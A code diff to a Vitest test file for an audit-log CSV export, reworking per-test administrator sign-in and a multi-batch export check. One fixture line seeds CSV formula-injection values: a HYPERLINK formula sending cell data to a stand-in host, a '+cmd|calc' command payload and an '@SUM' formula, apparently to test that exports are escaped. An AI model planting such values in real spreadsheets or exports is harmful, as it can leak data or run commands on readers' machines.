@@ -1,4 +1,4 @@
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import type { AuditEntry } from '../../core/audit/audit.ts';
 import { createTestApp, type TestApp } from '../../../test/helpers/app.ts';
 import { createStaff, signIn, type SignedIn } from '../../../test/helpers/staff.ts';
@@ -25,11 +25,15 @@ beforeAll(async () => {
   await record({ action: 'evil.csv', targetType: 'note', targetId: '=HYPERLINK("http://x.example/?"&A1,"click")', actor: { id: null, label: '+cmd|calc' }, detail: { text: '@SUM(1,2)' } });
   t.clock.set(now);
   for (let i = 1; i <= 120; i++) await record({ action: 'bulk.row', targetType: 'bulk', targetId: String(i) });
+});
+afterAll(async () => t.close());
+
+// An administrator of each test's own, so its sign-in and exports are told apart from others'.
+beforeEach(async () => {
   const staff = await createStaff(t, ['administrator']);
   adminEmail = staff.account.email;
   admin = await signIn(t, staff);
 });
-afterAll(async () => t.close());
 
 const seqs = (html: string) => [...html.matchAll(/<tr><td>(\d+)<\/td>/g)].map((m) => Number(m[1]));
 const link = (html: string, rel: 'prev' | 'next') => {
@@ -145,21 +149,24 @@ describe('audit CSV export', () => {
   });
 
   it('includes its own audit row and every matching row, across batches', async () => {
-    const res = await admin.get('/console/audit.csv?action=audit.export');
+    await admin.get('/console/audit.csv?action=evil');
+    const res = await admin.get(`/console/audit.csv?action=audit.export&actor=${adminEmail}`);
     const lines = res.body.split('\r\n').filter(Boolean);
     // The previous export and this one.
     expect(lines).toHaveLength(3);
-    // Past one export batch (500 rows).
+    // Past one export batch (500 rows), under a label no other test writes.
+    const label = `batch-${adminEmail}`;
     await t.app.services.db.transaction().execute(async (trx) => {
-      for (let i = 0; i < 450; i++) await t.app.services.audit(trx, { actor: { id: null, label: 'system' }, action: 'bulk.more', targetId: String(i) });
+      for (let i = 0; i < 550; i++) await t.app.services.audit(trx, { actor: { id: null, label }, action: 'batch.more', targetId: String(i) });
     });
-    const all = await admin.get('/console/audit.csv');
+    const all = await admin.get(`/console/audit.csv?actor=${label}`);
     const rows = all.body.split('\r\n').filter(Boolean).slice(1);
-    const total = await t.app.services.db.selectFrom('auditLog').select((eb) => eb.fn.countAll<number>().as('n')).executeTakeFirstOrThrow();
-    expect(rows).toHaveLength(Number(total.n));
+    const made = await t.app.services.db.selectFrom('auditLog').select('seq').where('actorLabel', '=', label).orderBy('seq').execute();
+    expect(rows).toHaveLength(made.length);
     expect(rows.length).toBeGreaterThan(500);
+    // In chain order, every one of them.
     const numbers = rows.map((r) => Number(r.split(',')[0]));
-    expect(numbers).toEqual(numbers.map((_, i) => i + 1));
+    expect(numbers).toEqual(made.map((r) => Number(r.seq)));
   });
 
   it('answers bad filters with the form, not a file', async () => {
